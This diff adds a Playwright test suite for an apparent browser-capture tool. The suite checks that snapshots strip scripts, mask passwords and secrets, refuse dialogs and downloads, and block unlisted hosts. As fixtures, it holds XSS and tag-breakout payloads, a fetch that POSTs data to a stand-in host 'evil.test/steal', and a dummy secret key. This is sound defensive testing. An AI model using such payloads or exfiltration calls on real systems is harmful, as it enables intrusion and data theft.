@@ -1,0 +1,246 @@
+import { expect, test } from '@playwright/test';
+import type { Pages, Site } from './testing/open-site.ts';
+import { SECRET, withSite } from './testing/open-site.ts';
+
+const KEY = 'sk_live_51HqLyjWDarjtT1zdp7dc';
+
+const FORM = `<title>Form</title>
+  <style>p { color: rgb(1, 2, 3) }</style><link rel="stylesheet" href="/a.css">
+  <input id="text" value="old"><input type="password" value="hunter2hunter2"><textarea>old</textarea>
+  <input type="checkbox" id="on"><input type="checkbox" id="off" checked>
+  <select><option>first<option>second</select>
+  <div id="open"></div><div id="closed"></div>
+  <iframe srcdoc="<p>inner words</p>"></iframe>
+  <script>
+    text.value = 'typed'; document.querySelector('textarea').value = 'written <b>';
+    on.checked = true; off.checked = false; document.querySelector('select').selectedIndex = 1;
+    document.querySelector('[type=password]').value = 'correct horse battery';
+    document.querySelector('#open').attachShadow({ mode: 'open' }).innerHTML = '<p>open words</p>';
+    document.querySelector('#closed').attachShadow({ mode: 'closed' }).innerHTML = '<p>closed words</p>';
+  </script>`;
+
+const STYLED: Pages = {
+  '/': FORM,
+  '/a.css': (_, response) =>
+    void response.writeHead(200, { 'content-type': 'text/css' }).end('b { color: rgb(4, 5, 6) }'),
+};
+
+test('a document shows what was typed, checked and chosen, shadow roots, frames and style sheets', async () => {
+  await withSite(STYLED, async ({ open }) => {
+    const { dom, title } = await open('/');
+    expect(title).toBe('Form');
+    for (const part of [
+      'value="typed"',
+      'written &#60;b&#62;</textarea>',
+      'id="on" value="on" checked=""',
+      'id="off" value="on">',
+      '<option selected="">second',
+      '<template shadowrootmode="open"><p>open words</p></template>',
+      '<template shadowrootmode="closed"><p>closed words</p></template>',
+      'inner words',
+      'rgb(1, 2, 3)',
+      '<style>b { color: rgb(4, 5, 6) }</style>',
+    ]) {
+      expect(dom).toContain(part);
+    }
+    expect(dom).not.toContain('<option selected="">first');
+  });
+});
+
+test('a password is in neither the document nor the accessibility tree', async () => {
+  await withSite(STYLED, async ({ open }) => {
+    const { dom, accessibility } = await open('/');
+    expect(`${dom}${accessibility}`).not.toMatch(/hunter2|battery/);
+  });
+});
+
+test('a hostile document, opened again, runs nothing and asks for nothing', async () => {
+  const hostile = `<base href="http://evil.test/"><meta http-equiv="refresh" content="30; url=/away">
+    <script>window.ran = 'script'</script><img src="x:" onerror="parent.ran = 1"><svg onload="ran = 2"></svg>
+    <a href="javascript:ran=3">a</a><a href=" jav&#x09;ascript:ran=4">b</a><form action="javascript:ran=5"><button formaction="javascript:ran=6">c</button></form>
+    <iframe srcdoc="<script>parent.ran = 7</script>&lt;inner&gt;"></iframe><object data="/o"></object><embed src="/e">
+    <textarea></textarea><style></style><title></title><noscript><p title="</noscript><script>ran = 8</script>"></noscript>
+    <script>
+      document.querySelector('textarea').value = '</textarea><script>ran = 9<' + '/script>';
+      document.querySelector('style').textContent = '</style><script>ran = 10<' + '/script>';
+      document.body.setAttribute('data-x', '"><script>ran = 11<' + '/script>');
+      document.body.append('<script>ran = 12<' + '/script>', document.createComment('--><script>ran = 13<' + '/script>'));
+    </script>`;
+  let stored = '';
+  const pages: Pages = {
+    '/': hostile,
+    // The page that shows it must not be stopped by its own policy: nothing but the document itself is to be harmless.
+    '/again': (_, response) => void response.writeHead(200, { 'content-type': 'text/html' }).end(stored),
+  };
+  await withSite(pages, async ({ open, served, stopped }) => {
+    stored = (await open('/')).dom;
+    expect(stored).not.toMatch(/<script|<base|<object|<embed|http-equiv|\son\w+=|href="\s*jav/i);
+    const before = [served.length, stopped.length];
+    const again = await open('/again');
+    expect(again.url).toBe('http://site.test/again');
+    expect(again.dom).not.toContain('ran="');
+    expect(served.slice(before[0]).filter((line) => !/again|favicon/.test(line))).toEqual([]);
+    expect(stopped.slice(before[1])).toEqual([]);
+  });
+});
+
+test('a secret is masked in the picture, in frames and after scrolling too, and gone from all text', async () => {
+  const page = `<body style="margin: 0; height: 3000px"><p style="margin: 100px 0 0 50px; width: 400px">${KEY}</p>
+    <input style="position: absolute; left: 20px; top: 300px; width: 400px" value="${KEY}">
+    <iframe style="position: absolute; left: 600px; top: 200px; border: 10px solid; padding: 5px" srcdoc="<body style='margin: 0'><p style='margin: 30px 0 0 40px'>${KEY}</p>"></iframe>`;
+  await withSite({ '/': page }, async ({ open, session, capture }) => {
+    const first = await open('/');
+    expect(`${first.dom}${first.accessibility}${first.title}`).not.toMatch(SECRET);
+    const covers = (masks: typeof first.masks, x: number, y: number) =>
+      masks.some(
+        ([left, top, width, height]) => x >= left && x <= left + width && y >= top && y <= top + height,
+      );
+    expect(covers(first.masks, 60, 108)).toBe(true);
+    expect(covers(first.masks, 40, 310)).toBe(true);
+    expect(covers(first.masks, 600 + 15 + 45, 200 + 15 + 38)).toBe(true);
+    expect(covers(first.masks, 60, 150)).toBe(false);
+    await session.scroll(0, 50);
+    expect(covers((await capture()).masks, 60, 58)).toBe(true);
+  });
+});
+
+const everything = ({ url, title, dom, accessibility, png }: Awaited<ReturnType<Site['capture']>>) => ({
+  url,
+  title,
+  dom,
+  accessibility,
+  png: png.toString('base64'),
+});
+
+test('the same steps give the same documents, trees and pictures, in one browser and in another', async () => {
+  const pages: Pages = {
+    '/': '<a href="/form">go</a><iframe src="/inner"></iframe>',
+    '/inner': '<button>inner</button>',
+    '/form': '<input id="name"><iframe src="/inner"></iframe><a href="/">back</a><button>ok</button>',
+  };
+  const steps = async () => {
+    const seen: unknown[] = [];
+    await withSite(pages, async ({ open, click, session, capture }) => {
+      seen.push(everything(await open('/')), everything(await click('go')));
+      const field = await session.locate({ role: 'textbox', name: '' });
+      if ('problem' in field) throw new Error(field.problem);
+      await session.fill({ role: 'textbox', name: '' }, field, 'typed');
+      seen.push(everything(await capture()), everything(await click('ok')), everything(await click('back')));
+    });
+    return seen;
+  };
+  const once = await steps();
+  expect(await steps()).toEqual(once);
+});
+
+test('a focused field gives one picture, whenever it is taken', async () => {
+  await withSite({ '/': '<input autofocus value="x">' }, async ({ open, session, capture }) => {
+    const first = await open('/');
+    for (const ms of [170, 230, 310, 370]) {
+      await session.wait(ms);
+      expect((await capture()).png.equals(first.png)).toBe(true);
+    }
+  });
+});
+
+for (const [title, change] of [
+  ['its text', "document.querySelector('p').textContent = 'new'"],
+  ['an attribute', "document.querySelector('p').title = 'new'"],
+  ['what is typed in a field', "document.querySelector('input').value = 'new'"],
+  ['a box that is checked', "document.querySelector('[type=checkbox]').checked = true"],
+  ['what is chosen', "document.querySelector('select').selectedIndex = 1"],
+  ['its address alone', "history.pushState(null, '', '/new')"],
+  ['its title', "document.title = 'new'"],
+  ['how far it is scrolled', 'scrollTo(0, 500)'],
+  ['the focus', "document.querySelector('input').focus()"],
+  ['a style rule', "document.styleSheets[0].insertRule('p { color: red }')"],
+  ['a closed shadow root', "shadow.textContent = 'new'"],
+  ['a frame', "frames[0].document.body.textContent = 'new'"],
+  ['an animation that begins', "document.querySelector('p').animate([{ opacity: 0 }], 1e6)"],
+] as const) {
+  test(`a page that changes by itself is captured again: ${title}`, async () => {
+    const page = `<style>body { height: 3000px }</style><p>old</p><input><input type="checkbox"><select><option>a<option>b</select>
+      <div></div><iframe srcdoc="old"></iframe>
+      <script>
+        const shadow = document.querySelector('div').attachShadow({ mode: 'closed' }); shadow.textContent = 'old';
+        const poll = () => fetch('/wait').then(() => { ${change}; document.documentElement.dataset.done === '1' });
+        onload = () => setTimeout(poll, 0);
+      </script>`;
+    const waiting: (() => void)[] = [];
+    const pages: Pages = {
+      '/': page,
+      '/wait': (_, response) => void waiting.push(() => response.end()),
+    };
+    await withSite(pages, async ({ open, session }) => {
+      const cleaner = { text: (text: string) => text };
+      await open('/');
+      const first = await session.capture(cleaner, null);
+      expect(await session.recapture(cleaner, first)).toBe(first);
+      for (const answer of waiting) answer();
+      await session.settle();
+      expect(await session.recapture(cleaner, first)).not.toBe(first);
+    });
+  });
+}
+
+test('a new window is worked in, and the old one again once it is closed', async () => {
+  const pages: Pages = {
+    '/': '<a href="/new" target="_blank">go</a>',
+    '/new': '<p>in the new window</p><button onclick="close()">shut</button>',
+  };
+  await withSite(pages, async ({ open, click, session, incidents }) => {
+    await open('/');
+    expect((await click('go')).dom).toContain('in the new window');
+    expect(session.pagesOpened).toBe(2);
+    expect(incidents.map((one) => one.split(':')[0])).toEqual(['popup']);
+  });
+});
+
+test('a dialog is dismissed and told of; what it asked did not happen', async () => {
+  const ask = "<button onclick=\"if (confirm('Delete all?')) document.title = 'deleted'\">go</button>";
+  await withSite({ '/': ask }, async ({ open, click, incidents }) => {
+    await open('/');
+    expect((await click('go')).title).toBe('');
+    expect(incidents).toEqual(['dialog: confirm: Delete all?']);
+  });
+});
+
+test('a download is refused and told of', async () => {
+  const pages: Pages = {
+    '/': '<a href="/export.csv">go</a>',
+    '/export.csv': (_, response) =>
+      void response.writeHead(200, { 'content-disposition': 'attachment; filename="all.csv"' }).end('a,b'),
+  };
+  await withSite(pages, async ({ open, click, incidents }) => {
+    await open('/');
+    expect((await click('go')).url).toBe('http://site.test/');
+    expect(incidents).toEqual(['download: all.csv']);
+  });
+});
+
+test('a crash is told of', async () => {
+  await withSite({ '/': '<p>fine' }, async ({ open, session, incidents }) => {
+    await open('/');
+    await session.goto('chrome://crash');
+    expect(incidents).toEqual(['crash: http://site.test/']);
+  });
+});
+
+test('a request to an address that is not listed is stopped, with its method and body', async () => {
+  const leak =
+    "fetch('http://evil.test/steal', { method: 'POST', body: 'all', mode: 'no-cors' }).catch(() => 0)";
+  const pages: Pages = {
+    '/': `<button onclick="${leak}">go</button><iframe src="http://evil.test/in"></iframe>`,
+  };
+  await withSite(pages, async ({ open, click, stopped, served }) => {
+    await open('/');
+    await click('go');
+    expect(
+      stopped.map(({ method, url, body }) => [method, url, body && Buffer.from(body).toString()]),
+    ).toEqual([
+      ['GET', 'http://evil.test/in', null],
+      ['POST', 'http://evil.test/steal', 'all'],
+    ]);
+    expect(served.filter((line) => line.includes('evil'))).toEqual([]);
+  });
+});
